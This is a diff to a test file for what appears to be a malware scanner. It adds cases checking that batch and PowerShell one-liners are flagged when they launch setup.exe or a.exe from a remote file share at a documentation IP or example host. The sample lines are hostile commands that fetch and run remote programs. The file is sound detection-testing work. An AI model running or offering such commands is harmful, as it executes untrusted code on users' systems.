@@ -503,6 +503,15 @@ suite('a script that runs the text at an address', () => {
     test(address, () => assert.ok(accusations(packed('loader.js', loader(address))).includes('Script.Dropper')))
 })
 
+suite('a shell script that starts a program of a file server outside', () => {
+  for (const [name, text] of [
+    ['a.bat', 'start "" "\\\\198.51.100.7\\pub\\setup.exe"\r\n'],
+    ['a.bat', 'set h=198.51.100.7\r\n\\\\%h%\\DavWWWRoot\\a.exe\r\n'],
+    ['a.ps1', '& "\\\\files.example@8080\\pub\\setup.exe"\r\n'],
+  ] as const)
+    test(text, () => assert.ok(accusations(packed(name, text)).includes('Script.Program')))
+})
+
 suite('a shell script that downloads and runs a program', () => {
   const alone = (name: string, text: string): Uint8Array => writeZip([{ name, data: Buffer.from(text) }])
   const attacks: [string, Uint8Array][] = [
